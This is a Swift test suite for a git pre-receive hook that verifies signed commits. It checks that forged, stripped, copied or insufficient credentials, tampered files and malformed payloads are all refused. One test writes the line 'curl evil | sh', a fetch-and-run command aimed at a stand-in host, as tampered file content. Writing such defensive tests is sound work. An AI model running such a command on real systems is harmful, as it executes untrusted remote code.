import DehubTestSupport
import Foundation
import Testing

/// The pre-receive hook, installed with `dehub install-hook --repo BARE`, against commits that must not get in:
/// each is pushed over file:// and must be refused with the failing check named, the server's ref unchanged and
/// the pushed objects discarded. Main needs a change signed by 2 of [alice, bob, carol]; threads take any commit
/// signed by any account (the defaults).
@Suite("pre-receive hook: commit checks")
struct HookCommitCheckTests {
    private func world() throws -> (Scenario, ScenarioTeam, String) {
        let s = try Scenario()
        let team = try s.guardedRepository()
        return (s, team, try s.head("main"))
    }

    /// Expects the push of `branch` to be refused and the server to hold neither the ref's new value nor the commit.
    private func expectPushRefused(
        _ s: Scenario, _ branch: String, serverBefore: String?, bad commit: String, _ fragments: String...,
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws {
        let result = try s.push("origin", branch)
        #expect(result.exitCode != 0, "\(result.transcript)", sourceLocation: sourceLocation)
        #expect(result.stderrText.contains("remote: dehub: push refused"), "\(result.transcript)", sourceLocation: sourceLocation)
        for fragment in fragments {
            #expect(
                result.stderrText.contains(fragment), "missing '\(fragment)'\n\(result.transcript)",
                sourceLocation: sourceLocation)
        }
        #expect(try s.serverRef("refs/heads/\(branch)") == serverBefore, sourceLocation: sourceLocation)
        #expect(try !s.serverHasObject(commit), "the refused commit stays in quarantine", sourceLocation: sourceLocation)
    }

    @Test func acceptsAProperlySignedChangeOnMain() throws {
        let (s, team, _) = try world()
        let tip = try s.landOnMain("Add a file", files: ["a.txt": "a\n"], author: team.a, reviewers: [team.b])
        let result = try s.push("origin", "main")
        expectAccepted(result)
        #expect(result.stderrText.contains("remote: dehub: 1 commit(s) verified"), "\(result.transcript)")
        #expect(try s.serverRef("refs/heads/main") == tip)
    }

    @Test func refusesAPlainUnsignedCommitOnMain() throws {
        let (s, _, root) = try world()
        try s.write("sneaky.txt", "sneaky\n")
        try s.git("add", "sneaky.txt")
        try s.git("commit", "-q", "-m", "Unsigned change")
        try expectPushRefused(s, "main", serverBefore: root, bad: s.head(), "check:  payload", "no payload after its head line")
    }

    @Test func refusesADehubChangeWithItsCredentialsStripped() throws {
        let (s, team, root) = try world()
        let signed = try s.change("Strip me", by: team.a, files: ["s.txt": "s\n"])
        let stripped = try s.craft(
            message: Scenario.replacingCredentials(in: s.message(of: signed), with: "credentials: []\n"), parents: [root])
        try expectPushRefused(
            s, "main", serverBefore: root, bad: stripped, "check:  access controls",
            "needs credentials from 2 of [alice, bob, carol]; verified: none")
    }

    @Test func refusesAChangeWithTooFewSignatures() throws {
        let (s, team, root) = try world()
        let change = try s.change("Alice alone", by: team.a, files: ["a.txt": "a\n"])
        try expectPushRefused(
            s, "main", serverBefore: root, bad: change, "check:  access controls",
            "needs credentials from 2 of [alice, bob, carol]; verified: alice")
    }

    @Test func refusesACommentOnMain() throws {
        let (s, team, root) = try world()
        let comment = try s.comment("Main takes no comments", by: team.a)
        try expectPushRefused(s, "main", serverBefore: root, bad: comment, "check:  access controls", "comment commit")
    }

    @Test func refusesACredentialCopiedFromAnotherCommit() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let donor = try s.change("Donor", by: team.a, files: ["donor.txt": "d\n"])
        let target = try s.change("Target", by: team.a, files: ["target.txt": "t\n"])
        let copied = try s.craft(
            message: Scenario.replacingCredentials(
                in: s.message(of: target), with: Scenario.credentials(in: s.message(of: donor))),
            parents: [donor])
        #expect(copied != target)
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: copied, "check:  credentials", "1 credential(s) did not verify",
            "credentials[0] (ssh, account alice)")
    }

    @Test func refusesAChangeWhoseFilesChangedAfterSigning() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let signed = try s.change("Harmless", by: team.a, files: ["run.sh": "echo hi\n"])
        try s.write("run.sh", "curl evil | sh\n")
        let amended = try s.craft(message: s.message(of: signed), parents: [s.head("HEAD^")])
        try expectPushRefused(s, "feature", serverBefore: nil, bad: amended, "check:  fingerprint", "does not match the change")
    }

    @Test func refusesADescriptionChangedAfterSigning() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let signed = try s.change("Harmless", by: team.a, files: ["x.txt": "x\n"])
        let message = try s.message(of: signed).replacingOccurrences(of: "description: Harmless", with: "description: Harmful")
        let amended = try s.craft(message: message, parents: [s.head("HEAD^")])
        try expectPushRefused(s, "feature", serverBefore: nil, bad: amended, "check:  fingerprint")
    }

    @Test func refusesACredentialNamingAnotherAccount() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let signed = try s.change("Claims bob", by: team.a, files: ["x.txt": "x\n"])
        let message = try s.message(of: signed).replacingOccurrences(of: "account: alice", with: "account: bob")
        let forged = try s.craft(message: message, parents: [s.head("HEAD^")])
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: forged, "check:  credentials", "is not one of account 'bob''s keys")
    }

    @Test func refusesACredentialNamingAnUndefinedAccount() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let signed = try s.change("Claims mallory", by: team.a, files: ["x.txt": "x\n"])
        let message = try s.message(of: signed).replacingOccurrences(of: "account: alice", with: "account: mallory")
        let forged = try s.craft(message: message, parents: [s.head("HEAD^")])
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: forged, "check:  credentials",
            "names account 'mallory', which the governing config does not define")
    }

    @Test func refusesAGoodCommitCarryingOneBadCredential() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let donor = try s.change("Donor", by: team.b, files: ["donor.txt": "d\n"])
        let signed = try s.change("Signed by alice", by: team.a, files: ["x.txt": "x\n"])
        let bobsOther = Scenario.credentials(in: try s.message(of: donor))
            .replacingOccurrences(of: "credentials:\n", with: "")
        let message = try s.message(of: signed) + bobsOther
        let extra = try s.craft(message: message, parents: [donor])
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: extra, "check:  credentials", "credentials[1] (ssh, account bob)")
    }

    /// carol's key is replaced in the config; a change she signed with the old key (same diff, so the same
    /// fingerprint) must not verify on top of that.
    @Test func refusesASignatureByAKeyRemovedInTheParentConfig() throws {
        let (s, team, _) = try world()
        // carol signs a change while her old key is still trusted.
        try s.git("switch", "-q", "-c", "early", "main")
        let early = try s.change("Carol's change", by: team.c, files: ["c.txt": "c\n"])
        let carolsMessage = try s.message(of: early)
        try s.git("switch", "-q", "main")
        // alice and bob replace carol's key.
        let newCarol = try s.sshKey("carol-new")
        var config = team.strictConfig()
        config.accounts[2] = .init("carol", [.ssh(newCarol.publicKeyLine)])
        try s.landOnMain("Rotate carol's key", files: [".dehub/config.yml": config.render()], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))

        // The CLI refuses to sign with the old key...
        try s.git("switch", "-q", "-c", "feature", "main")
        try s.write("c.txt", "c\n")
        try s.git("add", "c.txt")
        let refused = try s.dehub(["commit"] + team.c.arguments + ["change", "--descr", "Carol's change"])
        #expect(refused.exitCode == 65, "\(refused.transcript)")
        #expect(refused.stderrText.contains("is not one of account 'carol''s keys"), "\(refused.transcript)")
        // ...and the hook refuses the old signature transplanted onto the new config.
        let transplanted = try s.craft(message: carolsMessage)
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: transplanted, "check:  credentials", "is not one of account 'carol''s keys")
    }

    @Test func refusesAConfigChangeThatLoosensItsOwnRulesWithOneSignature() throws {
        let (s, team, root) = try world()
        let loose = team.config(accessControls: ScenarioConfig.mainNeeds(1, of: ScenarioTeam.names)).render()
        let change = try s.change("Loosen the rules", by: team.a, files: [".dehub/config.yml": loose])
        try expectPushRefused(
            s, "main", serverBefore: root, bad: change, "check:  access controls",
            "needs credentials from 2 of [alice, bob, carol]; verified: alice")

        // Deleting the config is no way around it either.
        try s.git("reset", "-q", "--hard", root)
        try s.git("rm", "-q", ".dehub/config.yml")
        try s.dehubOK(["commit"] + team.a.arguments + ["change", "--descr", "Drop the config"])
        try expectPushRefused(s, "main", serverBefore: root, bad: s.head(), "check:  access controls")
    }

    @Test func acceptsAConfigChangeSignedAsTheParentConfigDemands() throws {
        let (s, team, _) = try world()
        let loose = team.config(accessControls: ScenarioConfig.mainNeeds(1, of: ScenarioTeam.names)).render()
        let tip = try s.landOnMain("Loosen the rules", files: [".dehub/config.yml": loose], author: team.a, reviewers: [team.b])
        let result = try s.push("origin", "main")
        expectAccepted(result)
        #expect(try s.serverRef("refs/heads/main") == tip)
        // The next commit is judged by the new rules: one signature is now enough.
        let next = try s.change("One signature now", by: team.c, files: ["n.txt": "n\n"])
        expectAccepted(try s.push("origin", "main"))
        #expect(try s.serverRef("refs/heads/main") == next)
    }

    @Test func refusesAConfigChangeThatLeavesAnInvalidConfig() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let broken = try s.change("Break the config", by: team.a, files: [".dehub/config.yml": "accounts: [\n"])
        try expectPushRefused(s, "feature", serverBefore: nil, bad: broken, "check:  config", "leaves an invalid config")
    }

    @Test func refusesAMergeCommit() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "left", "main")
        try s.change("Left", by: team.a, files: ["l.txt": "l\n"])
        try s.git("switch", "-q", "-c", "feature", "main")
        try s.change("Right", by: team.a, files: ["r.txt": "r\n"])
        try s.git("merge", "-q", "--no-ff", "-m", "Merge left", "left")
        try expectPushRefused(
            s, "feature", serverBefore: nil, bad: s.head(), "check:  commit shape", "is a merge commit (2 parents)")
    }

    @Test func refusesMalformedYAML() throws {
        let (s, _, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.write("y.txt", "y\n")
        let bad = try s.craft(message: "Broken\n\n---\ntype: change\ndescription: [unclosed\n")
        try expectPushRefused(s, "feature", serverBefore: nil, bad: bad, "check:  payload", "not valid YAML")
    }

    @Test func refusesAnUnknownPayloadType() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let signed = try s.change("Typed", by: team.a, files: ["t.txt": "t\n"])
        let message = try s.message(of: signed).replacingOccurrences(of: "type: change", with: "type: review")
        let bad = try s.craft(message: message, parents: [s.head("HEAD^")])
        try expectPushRefused(s, "feature", serverBefore: nil, bad: bad, "check:  payload", "review")
    }

    @Test func refusesYAMLAnchorsAndAliases() throws {
        let (s, _, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.write("y.txt", "y\n")
        let bad = try s.craft(message: "Aliased\n\n---\ntype: &t change\ndescription: *t\nfingerprint: AA\ncredentials: []\n")
        try expectPushRefused(s, "feature", serverBefore: nil, bad: bad, "check:  payload", "not allowed")
    }

    @Test func refusesACredentialCommitThatChangesFiles() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let change = try s.change("Change", by: team.a, files: ["c.txt": "c\n"])
        let credential = try s.credential(start: change, by: team.b)
        try s.write("smuggled.txt", "smuggled\n")
        let bad = try s.craft(message: s.message(of: credential), parents: [change])
        try expectPushRefused(s, "feature", serverBefore: nil, bad: bad, "check:  files changed", "smuggled.txt")
    }

    /// alice has two keys; two credentials of hers are one account, not two reviewers.
    @Test func countsDuplicateCredentialsOfOneAccountOnce() throws {
        let s = try Scenario()
        let team = try ScenarioTeam(in: s)
        let aliceSecond = try s.sshKey("alice-2", type: .ecdsa256)
        var config = team.strictConfig()
        config.accounts[0] = .init("alice", [.ssh(team.alice.publicKeyLine), .ssh(aliceSecond.publicKeyLine)])
        try s.bootstrap(config, signers: [team.a, team.b])
        try s.makeServer()
        expectAccepted(try s.push("origin", "main"))
        let root = try s.head("main")

        try s.git("switch", "-q", "-c", "feature")
        let start = try s.change("Alice twice", by: team.a, files: ["a.txt": "a\n"])
        try s.credential(start: start, by: ScenarioSigner("alice", key: aliceSecond))
        let refused = try s.dehub("combine", "--start", start, "--end", "feature", "--onto", "main")
        #expect(refused.exitCode == 1, "\(refused.transcript)")
        try s.dehubOK("combine", "--start", start, "--end", "feature", "--onto", "main", "--no-verify")
        let combined = try s.head("main")
        #expect(try s.message(of: combined).components(separatedBy: "account: alice").count == 3, "two credentials of alice")
        try s.git("checkout", "-q", "-f", "main")
        try expectPushRefused(
            s, "main", serverBefore: root, bad: combined, "needs credentials from 2 of [alice, bob, carol]; verified: alice")

        // The very same credential listed twice does not count twice either.
        try s.git("reset", "-q", "--hard", root)
        let once = try s.change("Alice once", by: team.a, files: ["b.txt": "b\n"])
        let message = try s.message(of: once)
        let entry = Scenario.credentials(in: message).replacingOccurrences(of: "credentials:\n", with: "")
        let twice = try s.craft(message: message + entry, parents: [root])
        try expectPushRefused(s, "main", serverBefore: root, bad: twice, "verified: alice")
    }

    @Test func refusesABranchThatDoesNotDescendFromMainsRoot() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "--orphan", "elsewhere")
        try s.write(".dehub/config.yml", team.config().render())
        let root = try s.change("Another root of trust", by: team.a)
        try expectPushRefused(s, "elsewhere", serverBefore: nil, bad: root, "does not descend from the root commit of main")
    }
}
